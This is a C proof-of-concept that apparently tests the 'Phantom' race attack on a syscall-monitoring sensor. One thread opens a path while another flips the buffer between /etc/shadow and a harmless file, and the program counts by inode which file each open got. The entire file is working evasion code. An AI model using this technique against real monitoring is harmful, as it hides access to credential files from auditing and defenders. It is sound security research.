// SPDX-License-Identifier: GPL-2.0
/*
 * The Phantom attack on a sensor that reads an open's path from user memory
 * at the syscall's exit: while one thread opens the path in `path`, another
 * flips that buffer between a sensitive file and a harmless one of the same
 * length, so that the path read after the kernel's own copy may name the
 * other file. Prints how many opens returned each file, told by inode.
 *
 *   phantom_open OPENS
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define SENSITIVE "/etc/shadow"
#define HARMLESS "/tmp/harmls"

/* 12 bytes with the NUL: written as one 8-byte and one 4-byte store. */
static union {
	char text[16];
	struct {
		uint64_t head;
		uint32_t tail;
	} words;
} path;

static volatile int done;

static void *flip(void *unused)
{
	uint64_t heads[2];
	uint32_t tails[2];
	volatile uint64_t *head = &path.words.head;
	volatile uint32_t *tail = &path.words.tail;

	memcpy(&heads[0], SENSITIVE, 8);
	memcpy(&tails[0], SENSITIVE + 8, 4);
	memcpy(&heads[1], HARMLESS, 8);
	memcpy(&tails[1], HARMLESS + 8, 4);
	while (!done) {
		*head = heads[1];
		*tail = tails[1];
		*head = heads[0];
		*tail = tails[0];
	}
	return unused;
}

int main(int argc, char **argv)
{
	struct timespec pause = { 0, 2 * 1000 * 1000 };
	long opens = argc > 1 ? atol(argv[1]) : 1000;
	long sensitive = 0, harmless = 0, other = 0, failed = 0;
	struct stat s, h, st;
	pthread_t flipper;

	_Static_assert(sizeof(SENSITIVE) == 12 && sizeof(HARMLESS) == 12, "one length");
	if (stat(SENSITIVE, &s) || stat(HARMLESS, &h)) {
		perror("stat");
		return 2;
	}
	memcpy(path.text, SENSITIVE, sizeof(SENSITIVE));
	pthread_create(&flipper, NULL, flip, NULL);
	for (long i = 0; i < opens; i++) {
		int fd = open(path.text, O_RDONLY);

		if (fd < 0) {
			failed++;
			continue;
		}
		fstat(fd, &st);
		if (st.st_ino == s.st_ino && st.st_dev == s.st_dev)
			sensitive++;
		else if (st.st_ino == h.st_ino && st.st_dev == h.st_dev)
			harmless++;
		else
			other++;
		close(fd);
		/* Paced, so that the rings never fill: nothing is dropped. */
		nanosleep(&pause, NULL);
	}
	done = 1;
	pthread_join(flipper, NULL);
	printf("phantom: sensitive %ld harmless %ld other %ld failed %ld\n", sensitive, harmless, other, failed);
	return 0;
}
